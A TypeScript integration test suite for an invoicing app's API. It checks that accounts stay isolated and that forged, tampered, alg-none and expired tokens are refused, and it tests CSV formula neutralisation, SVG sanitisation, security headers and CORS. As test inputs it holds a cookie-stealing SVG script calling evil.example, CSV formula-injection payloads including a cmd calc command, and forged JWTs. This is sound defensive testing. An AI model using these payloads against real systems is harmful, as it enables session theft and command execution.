// Access, across the whole API: nobody else sees a tradie's data. Driven by the operations list
// (each route's own description), so a new route is covered without touching this file.
//
//   - every id-bearing route, called by account B with account A's ids: 404 with a detail, none of
//     A's data in the answer, nothing written; every read route shows a new account none of A's data
//   - every signed-in route refuses a missing, tampered, expired, foreign-key, alg:none, wrongly
//     scoped or garbage bearer token, and a refresh token used as one: 401 with a detail
//   - sessions: refresh-token reuse ends that family only; reset tokens are single use, expire,
//     and are no kind of bearer or refresh token
//   - output that could run somewhere else: CSV cells a spreadsheet would run as formulas, SVG logos
//   - the browser's guards: security headers on every HTML page, no CORS for any origin
//
// The feature suites test each of these in depth for their own routes (auth/auth.int.spec.ts,
// documents/tenancy.int.spec.ts, clients/clients.int.spec.ts, reports/csv.int.spec.ts,
// reports/links.int.spec.ts, settings/logo.int.spec.ts, app/health.int.spec.ts); this suite
// proves the promise holds for every route at once.
import { parse } from 'csv-parse/sync';
import { SignJWT, UnsecuredJWT } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Operation } from '../../src/openapi/describe.ts';
import { signUp } from '../support/testApp.ts';
import {
  changedTables, connectXero, fillPath, fingerprint, idBearing, idsOf, makeFixtures, operations, opKey, paramKind, pathParams, startReliabilityApp, validBody, validQuery,
  type Fixtures, type ReliabilityApp,
} from './support.ts';

let rel: ReliabilityApp;
/** The owner: a client, a draft, a quote, a sent invoice with a payment, a void invoice, a logo, Xero connected and one invoice synced. */
let a: Fixtures;
/** The intruder: an account of its own with the same kinds of resources. */
let b: Fixtures;
const A_CLIENT = 'Ōtaki Secret Renovations';
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');

beforeAll(async () => {
  rel = await startReliabilityApp();
  const { t } = rel;
  a = await makeFixtures(t, 'Aroha Owner', A_CLIENT);
  b = await makeFixtures(t, 'Intruder');
  const fd = new FormData();
  fd.append('file', new File([PNG], 'logo.png', { type: 'image/png' }));
  expect((await t.call('POST', '/business-settings/logo', { token: a.user.token, body: fd })).status).toBe(200);
  expect((await t.put('/business-settings', { business_name: 'Owner Electrical', gst_number: '49-091-850' }, a.user.token)).status).toBe(200);
  await connectXero(t, a.user.token);
  await connectXero(t, b.user.token);
  expect((await t.post(`/integrations/xero/sync/${a.invoiceId}`, undefined, a.user.token)).status).toBe(200);
});
afterAll(() => rel?.close());

type Call = { method: string; url: string; body?: string; headers: Record<string, string> };

/** A valid request for the route as `as` would send it, naming the given ids. */
function request(op: Operation, as: Fixtures, ids: Record<string, string>, headers: Record<string, string> = {}, options: { query?: boolean } = {}): Call {
  const q = options.query === false ? undefined : validQuery(op, as);
  const url = `/api/v1${fillPath(op, ids)}${q ? `?${new URLSearchParams(q).toString()}` : ''}`;
  const body = validBody(op, as);
  return {
    method: op.method.toUpperCase(),
    url,
    headers: { ...(body ? { 'Content-Type': 'application/json' } : {}), ...headers },
    ...(body ? { body: JSON.stringify(body) } : {}),
  };
}

async function send(c: Call): Promise<{ status: number; text: string; headers: Headers; detail: unknown }> {
  const res = await rel.t.app.request(c.url, { method: c.method, headers: c.headers, ...(c.body ? { body: c.body } : {}) });
  const text = await res.text();
  let detail: unknown;
  try {
    detail = (JSON.parse(text) as { detail?: unknown }).detail;
  } catch {
    detail = undefined;
  }
  return { status: res.status, text, headers: res.headers, detail };
}

/** Every combination of the owner's ids for the route's parameters (each document in each state). */
function idCombos(op: Operation, owner: Fixtures): Record<string, string>[] {
  let combos: Record<string, string>[] = [{}];
  for (const p of pathParams(op)) combos = combos.flatMap((c) => idsOf(owner, paramKind(op, p)).map((id) => ({ ...c, [p]: id })));
  return combos;
}

describe("another account's ids", () => {
  it('every id-bearing route answers 404 with a detail, shows none of the data and writes nothing', async () => {
    const routes = idBearing();
    expect(routes.length).toBeGreaterThan(15);
    const before = await fingerprint(rel.t);
    const mailsBefore = rel.t.mailer.sent.length;
    const xeroInvoicesBefore = rel.xero.state.invoices.length;
    let calls = 0;
    for (const op of routes) {
      for (const ids of idCombos(op, a)) {
        const r = await send(request(op, b, ids, { Authorization: `Bearer ${b.user.token}` }));
        calls += 1;
        const what = `${opKey(op)} with A's ${JSON.stringify(ids)} → ${r.status} ${r.text.slice(0, 200)}`;
        expect(r.status, `${what} (if 422: give the route a valid example body in reliability/support.ts)`).toBe(404);
        expect(typeof r.detail === 'string' && r.detail !== '', what).toBe(true);
        for (const secret of [A_CLIENT, a.user.email, a.user.userId]) expect(r.text, what).not.toContain(secret);
      }
    }
    expect(calls).toBeGreaterThan(40);
    expect(changedTables(before, await fingerprint(rel.t))).toEqual([]);
    expect(rel.t.mailer.sent.length).toBe(mailsBefore);
    expect(rel.xero.state.invoices.length).toBe(xeroInvoicesBefore);
  });

  it("a payment of A's named on B's own invoice is not found either", async () => {
    const r = await rel.t.del(`/invoices/${b.invoiceId}/payments/${a.paymentId}`, b.user.token);
    expect(r.status).toBe(404);
    expect(r.json.detail).toBe('Payment not found');
  });

  it("A's client cannot be put on B's new invoice or revision", async () => {
    const create = await rel.t.post('/invoices', { type: 'invoice', client_id: a.clientId, line_items: [{ description: 'Work', qty: 1, unit_price: 1 }] }, b.user.token);
    expect(create.status).toBe(404);
    expect(create.text).not.toContain(A_CLIENT);
    const revise = await rel.t.put(`/invoices/${b.draftId}`, { line_items: [{ description: 'Work', qty: 1, unit_price: 1 }], client_id: a.clientId }, b.user.token);
    expect(revise.status).toBe(404);
    expect(revise.text).not.toContain(A_CLIENT);
  });

  it('every read route shows a new account none of the owner\'s data', async () => {
    const c = await signUp(rel.t, 'Newcomer');
    const reads = operations.filter((op) => op.method === 'get' && pathParams(op).length === 0 && op.auth !== false);
    expect(reads.length).toBeGreaterThan(10);
    for (const op of reads) {
      const r = await send(request(op, b, {}, { Authorization: `Bearer ${c.token}` }));
      const what = `${opKey(op)} → ${r.status} ${r.text.slice(0, 200)}`;
      expect(r.status, what).toBeLessThan(500);
      for (const secret of [A_CLIENT, a.clientId, a.invoiceId, a.user.email]) expect(r.text, what).not.toContain(secret);
    }
    const gst = await rel.t.get('/reports/gst?start_date=2026-01-01&end_date=2026-12-31', c.token);
    expect(gst.json).toMatchObject({ total_sales: 0, invoice_count: 0 });
    expect((await rel.t.get('/business-settings/logo', c.token)).status).toBe(404);
  });

  it("links cannot be re-pointed at another account: B's export link names no account (A's id added to it reads B's own), B's logo link with A's id is 403", async () => {
    const link = await rel.t.post('/reports/export-links', { kind: 'annual-csv', year: 2026 }, b.user.token);
    expect(link.status).toBe(200);
    const url = new URL(link.json.url, 'http://app.test');
    expect(url.searchParams.get('account')).toBeNull();
    url.searchParams.set('account', a.user.userId);
    const exported = await rel.t.get(`${url.pathname}${url.search}`);
    expect(exported.status).toBe(200);
    expect(exported.text).not.toContain(A_CLIENT);

    const fd = new FormData();
    fd.append('file', new File([PNG], 'logo.png', { type: 'image/png' }));
    const logo = await rel.t.call('POST', '/business-settings/logo', { token: b.user.token, body: fd });
    const logoUrl = new URL(logo.json.logo_url as string, 'http://app.test');
    logoUrl.searchParams.set('a', a.user.userId);
    const res = await rel.t.app.request(`/api/v1${logoUrl.pathname}${logoUrl.search}`);
    expect(res.status).toBe(403);
  });
});

// ---- bearer tokens -------------------------------------------------------------------------------

/** One character changed in the middle of a part of the JWT (the last character may only carry padding bits). */
function tamper(jwt: string, part: 0 | 1 | 2): string {
  const parts = jwt.split('.');
  const s = parts[part]!;
  const i = Math.floor(s.length / 2);
  parts[part] = `${s.slice(0, i)}${s[i] === 'A' ? 'B' : 'A'}${s.slice(i + 1)}`;
  return parts.join('.');
}

describe('bearer tokens on every signed-in route', () => {
  /** Signed-in routes, and the logo, which without a signed link needs the bearer token. */
  const guarded = (): Operation[] => operations.filter((op) => op.auth !== false || opKey(op) === 'GET /business-settings/logo');

  async function forged(claims: { typ?: string; sub?: string; iss?: string; aud?: string; expIn?: number }, key: Uint8Array, alg = 'HS256'): Promise<string> {
    const now = Math.floor(rel.clock.now().getTime() / 1000);
    return new SignJWT(claims.typ === undefined ? {} : { typ: claims.typ })
      .setProtectedHeader({ alg, typ: 'JWT' })
      .setSubject(claims.sub ?? a.user.userId)
      .setIssuer(claims.iss ?? 'tradie-quotes')
      .setAudience(claims.aud ?? 'tradie-quotes-api')
      .setIssuedAt(now)
      .setExpirationTime(now + (claims.expIn ?? 600))
      .sign(key);
  }

  async function refused(headers: Record<string, string>, what: string): Promise<number> {
    let n = 0;
    for (const op of guarded()) {
      // The logo's example query is a signed link; without one, the route wants the bearer token.
      const r = await send(request(op, a, { id: a.invoiceId, paymentId: a.paymentId }, headers, { query: opKey(op) !== 'GET /business-settings/logo' }));
      n += 1;
      expect(r.status, `${opKey(op)} with ${what} → ${r.status} ${r.text.slice(0, 200)}`).toBe(401);
      expect(typeof r.detail === 'string' && r.detail !== '', `${opKey(op)} with ${what}: no detail`).toBe(true);
      for (const secret of [A_CLIENT, a.user.email]) expect(r.text).not.toContain(secret);
    }
    return n;
  }

  it('the real token works on them (so the refusals below are the token, not the route)', async () => {
    const r = await send(request(operations.find((op) => opKey(op) === 'GET /invoices/{id}')!, a, { id: a.invoiceId }, { Authorization: `Bearer ${a.user.token}` }));
    expect(r.status).toBe(200);
    expect(r.text).toContain(A_CLIENT);
  });

  it('401 without a token, or with a garbage Authorization header', async () => {
    const before = await fingerprint(rel.t);
    const t = a.user.token;
    const garbage: [string, Record<string, string>][] = [
      ['no header', {}],
      ['an empty header', { Authorization: '' }],
      ['Bearer and nothing', { Authorization: 'Bearer' }],
      ['Bearer and spaces', { Authorization: 'Bearer    ' }],
      ['Basic credentials', { Authorization: `Basic ${Buffer.from(`${a.user.email}:${a.user.password}`).toString('base64')}` }],
      ['the token without Bearer', { Authorization: t }],
      ['another scheme', { Authorization: `Token ${t}` }],
      ['two tokens', { Authorization: `Bearer ${t} ${t}` }],
      ['a token and junk', { Authorization: `Bearer ${t}, Bearer x` }],
      ['three dots', { Authorization: 'Bearer ...' }],
      ['null', { Authorization: 'Bearer null' }],
      ['a 10,000-character token', { Authorization: `Bearer ${'a'.repeat(10_000)}` }],
      ['a JSON payload', { Authorization: 'Bearer {"sub":"x"}' }],
    ];
    let n = 0;
    for (const [what, headers] of garbage) n += await refused(headers, what);
    expect(n).toBeGreaterThan(400);
    expect(changedTables(before, await fingerprint(rel.t))).toEqual([]);
  });

  it('401 for a token with one character changed (header, claims or signature), or the refresh token used as one', async () => {
    for (const part of [0, 1, 2] as const) await refused({ Authorization: `Bearer ${tamper(a.user.token, part)}` }, `part ${part} tampered`);
    await refused({ Authorization: `Bearer ${a.user.refresh}` }, 'the refresh token');
  });

  it('401 for a token signed with another key, with alg none, with HS512 on our own key, or for another audience, issuer or purpose', async () => {
    const ours = rel.t.deps.secrets.jwtKey;
    const otherKey = new TextEncoder().encode('some other key entirely, 32 bytes or more');
    const now = Math.floor(rel.clock.now().getTime() / 1000);
    const cases: [string, string][] = [
      ['another key', await forged({ typ: 'access' }, otherKey)],
      ['alg none', new UnsecuredJWT({ typ: 'access' }).setSubject(a.user.userId).setIssuer('tradie-quotes').setAudience('tradie-quotes-api').setIssuedAt(now).setExpirationTime(now + 600).encode()],
      ['alg none with a signature kept', `${new UnsecuredJWT({ typ: 'access' }).setSubject(a.user.userId).setIssuer('tradie-quotes').setAudience('tradie-quotes-api').setExpirationTime(now + 600).encode()}${a.user.token.split('.')[2]}`],
      ['HS512 on our key', await forged({ typ: 'access' }, ours, 'HS512')],
      ['another audience', await forged({ typ: 'access', aud: 'someone-else' }, ours)],
      ['another issuer', await forged({ typ: 'access', iss: 'someone-else' }, ours)],
      ['no purpose', await forged({}, ours)],
      ['a refresh purpose', await forged({ typ: 'refresh' }, ours)],
      ['already expired', await forged({ typ: 'access', expIn: -1 }, ours)],
    ];
    // The control: the same forging with the right everything is accepted, so each refusal is about its one difference.
    expect((await rel.t.get('/auth/me', await forged({ typ: 'access' }, ours))).status).toBe(200);
    for (const [what, token] of cases) await refused({ Authorization: `Bearer ${token}` }, what);
  });

  it('401 once the token has expired by the clock, on every route', async () => {
    const u = await signUp(rel.t, 'Soon Expired');
    const saved = rel.clock.now().toISOString();
    try {
      rel.clock.advance((rel.t.deps.config.accessTokenTtlSeconds + 1) * 1000);
      await refused({ Authorization: `Bearer ${u.token}` }, 'an expired token');
    } finally {
      rel.clock.set(saved);
    }
    expect((await rel.t.get('/auth/me', u.token)).status).toBe(200);
  });
});

// ---- sessions --------------------------------------------------------------------------------

describe('sessions (rotation and reset in depth: auth/auth.int.spec.ts)', () => {
  it('reusing a spent refresh token ends that session family, and only that one', async () => {
    const u = await signUp(rel.t, 'Two Devices');
    const phone = u.refresh;
    const laptop = (await rel.t.post('/auth/login', { email: u.email, password: u.password })).json.refresh_token as string;
    const rotated = await rel.t.post('/auth/refresh', { refresh_token: phone });
    expect(rotated.status).toBe(200);
    // A stolen copy of the phone's old token is played back (after the 30-second grace that covers
    // two tabs refreshing together): the phone's family ends...
    rel.t.clock.advance(31_000);
    const replay = await rel.t.post('/auth/refresh', { refresh_token: phone });
    expect(replay.status).toBe(401);
    expect(replay.json.detail).toMatch(/sign in again/);
    expect((await rel.t.post('/auth/refresh', { refresh_token: rotated.json.refresh_token })).status).toBe(401);
    // ...and the laptop, signed in separately, keeps its session.
    expect((await rel.t.post('/auth/refresh', { refresh_token: laptop })).status).toBe(200);
  });

  it('a refresh token is not an access token and an access token is not a refresh token', async () => {
    const u = await signUp(rel.t, 'Mixed Up');
    expect((await rel.t.post('/auth/refresh', { refresh_token: u.token })).status).toBe(401);
    expect((await rel.t.get('/auth/me', u.refresh)).status).toBe(401);
  });

  it('a password reset token works once, expires after an hour, and opens nothing else', async () => {
    const u = await signUp(rel.t, 'Forgetful');
    const tokenFromMail = async (): Promise<string> => {
      const before = rel.t.mailer.sent.length;
      await rel.t.post('/auth/forgot-password', { email: u.email });
      while (rel.t.mailer.sent.length === before) await new Promise((r) => setTimeout(r, 2));
      return new URL(/https?:\/\/\S+/.exec(rel.t.mailer.sent.at(-1)!.text)![0]).searchParams.get('token')!;
    };
    const first = await tokenFromMail();
    expect((await rel.t.get('/auth/me', first)).status).toBe(401);
    expect((await rel.t.post('/auth/refresh', { refresh_token: first })).status).toBe(401);
    expect((await rel.t.post('/auth/reset-password', { token: first, new_password: 'first new password' })).status).toBe(200);
    const again = await rel.t.post('/auth/reset-password', { token: first, new_password: 'second new password' });
    expect(again.status).toBe(400);
    expect(again.json.detail).toMatch(/invalid or has expired/);

    const second = await tokenFromMail();
    const saved = rel.clock.now().toISOString();
    try {
      rel.clock.advance(60 * 60_000 + 1000);
      expect((await rel.t.post('/auth/reset-password', { token: second, new_password: 'too late password' })).status).toBe(400);
    } finally {
      rel.clock.set(saved);
    }
    expect((await rel.t.post('/auth/login', { email: u.email, password: 'first new password' })).status).toBe(200);
  });
});

// ---- output that could run elsewhere ------------------------------------------------------------

describe('CSV exports neutralise formulas (every export, through the API; all cases: reports/csv.int.spec.ts)', () => {
  it('a client named =HYPERLINK("http://x","y") arrives in every CSV as text, never as a formula', async () => {
    const { t } = rel;
    const u = await signUp(t, 'Formula Victim');
    const names: string[] = [];
    for (const name of ['=HYPERLINK("http://x","y")', '+SUM(1,2)', '-2+3', '@SUM(A1)', '\u00a0=1+1', '＝1+1']) {
      const c = await t.post('/clients', { name }, u.token);
      expect(c.status).toBe(201);
      names.push(c.json.name as string);
      const inv = await t.post('/invoices', { type: 'invoice', client_id: c.json.id, line_items: [{ description: '=cmd|" /C calc"!A0', qty: 1, unit_price: 100 }], issue_date: '2026-05-05' }, u.token);
      expect(inv.status).toBe(201);
      expect((await t.post(`/invoices/${inv.json.id}/payments`, { amount: 50, date: '2026-05-06' }, u.token)).status).toBe(201);
    }
    const exports = [
      '/reports/export/gst-csv?start_date=2026-04-01&end_date=2026-06-30&basis=invoice',
      '/reports/export/gst-csv?start_date=2026-04-01&end_date=2026-06-30&basis=payments',
      '/reports/export/annual-csv?year=2027',
    ];
    for (const path of exports) {
      const r = await t.get(path, u.token);
      expect(r.status, path).toBe(200);
      const rows = parse(r.text, { bom: true }) as string[][];
      const cells = rows.flat();
      for (const name of names) expect(cells, `${path}: ${name}`).toContain(`'${name}`);
      for (const cell of cells) expect(cell, path).not.toMatch(/^[=+\-@\t\r＝]/);
    }
    // And through a download link, as the screens open it.
    const link = await t.post('/reports/export-links', { kind: 'gst-csv', start_date: '2026-04-01', end_date: '2026-06-30', basis: 'invoice' }, u.token);
    const viaLink = await t.get(link.json.url);
    expect(viaLink.status).toBe(200);
    expect(viaLink.text).toContain(`"'=HYPERLINK(""http://x"",""y"")"`);
  });
});

describe('SVG logos are sanitised (all cases: settings/logo.int.spec.ts)', () => {
  it('scripts, event handlers and external references are stripped; the served file is sandboxed', async () => {
    const { t } = rel;
    const u = await signUp(t, 'Svg Uploader');
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" onload="alert(1)">
  <script>fetch('https://evil.example/?c='+document.cookie)</script>
  <rect width="10" height="10" fill="#0a7" onclick="alert(2)"/>
  <image href="https://evil.example/track.png" width="1" height="1"/>
  <a xlink:href="javascript:alert(3)"><text y="8">Sparky</text></a>
  <use href="https://evil.example/sprite.svg#x"/>
</svg>`;
    const fd = new FormData();
    fd.append('file', new File([svg], 'logo.svg', { type: 'image/svg+xml' }));
    const up = await t.call('POST', '/business-settings/logo', { token: u.token, body: fd });
    expect(up.status).toBe(200);
    // Through the signed logo_url, as an <img> fetches it: no bearer token.
    const res = await t.app.request(`/api/v1${up.json.logo_url}`);
    expect(res.status).toBe(200);
    const out = await res.text();
    for (const gone of ['<script', 'onload', 'onclick', 'evil.example', 'javascript:', 'document.cookie']) expect(out, gone).not.toContain(gone);
    expect(out).toContain('<rect width="10" height="10" fill="#0a7"/>');
    expect(out).toContain('Sparky');
    expect(res.headers.get('content-type')).toBe('image/svg+xml');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('content-security-policy')).toMatch(/default-src 'none'.*sandbox/);
  });
});

// ---- the browser's guards ---------------------------------------------------------------------

describe('security headers on every HTML page', () => {
  const pages = ['/', '/pricing', '/pricing/', '/app/invoices', '/app/clients/123', '/reset-password?token=x', '/no-such-page'];

  it.each(pages)('%s: CSP (no inline script, frame-ancestors none), nosniff, referrer policy, no framing', async (path) => {
    const res = await rel.t.app.request(path);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/html/);
    const csp = res.headers.get('content-security-policy') ?? '';
    const directive = (name: string): string => csp.split(';').map((d) => d.trim()).find((d) => d.startsWith(`${name} `)) ?? '';
    expect(directive('default-src')).toBe("default-src 'self'");
    expect(directive('script-src')).toBe("script-src 'self'");
    expect(directive('frame-ancestors')).toBe("frame-ancestors 'none'");
    expect(directive('object-src')).toBe("object-src 'none'");
    expect(directive('base-uri')).toBe("base-uri 'self'");
    expect(directive('form-action')).toBe("form-action 'self'");
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
    expect(res.headers.get('x-frame-options')).toBe('DENY');
    expect(res.headers.get('strict-transport-security')).toMatch(/max-age=\d+/);
    expect(res.headers.get('access-control-allow-origin')).toBeNull();
  });

  it("the Xero callback page (a page the API serves) has them too, and sends no Referer onward", async () => {
    const res = await rel.t.app.request('/api/v1/integrations/xero/callback?state=x&code=y');
    expect(res.headers.get('content-type')).toMatch(/^text\/html/);
    expect(res.headers.get('content-security-policy')).toMatch(/frame-ancestors 'none'/);
    expect(res.headers.get('content-security-policy')).toMatch(/script-src 'self'/);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('referrer-policy')).toBe('no-referrer');
  });
});

describe('no CORS: another origin gets no permission to read anything', () => {
  const origins = ['https://evil.example', 'null', 'http://app.test.evil.example'];

  it('no route answers Access-Control-Allow-Origin, to a simple request or a preflight, even signed in', async () => {
    let n = 0;
    for (const op of operations) {
      const path = `/api/v1${fillPath(op, { id: a.invoiceId, paymentId: a.paymentId })}`;
      for (const origin of origins) {
        const simple = await rel.t.app.request(path, { method: op.method.toUpperCase(), headers: { Origin: origin, Authorization: `Bearer ${a.user.token}`, Cookie: 'session=x' }, ...(op.method === 'get' ? {} : { body: '{}' }) });
        const preflight = await rel.t.app.request(path, {
          method: 'OPTIONS',
          headers: { Origin: origin, 'Access-Control-Request-Method': op.method.toUpperCase(), 'Access-Control-Request-Headers': 'authorization, content-type' },
        });
        for (const [kind, res] of [['request', simple], ['preflight', preflight]] as const) {
          expect(res.headers.get('access-control-allow-origin'), `${opKey(op)} ${kind} from ${origin}`).toBeNull();
          expect(res.headers.get('access-control-allow-credentials'), `${opKey(op)} ${kind} from ${origin}`).toBeNull();
          expect(res.headers.get('access-control-allow-headers'), `${opKey(op)} ${kind} from ${origin}`).toBeNull();
        }
        expect(preflight.status, `${opKey(op)} preflight`).toBeLessThan(500);
        n += 2;
      }
    }
    expect(n).toBeGreaterThan(300);
  });
});
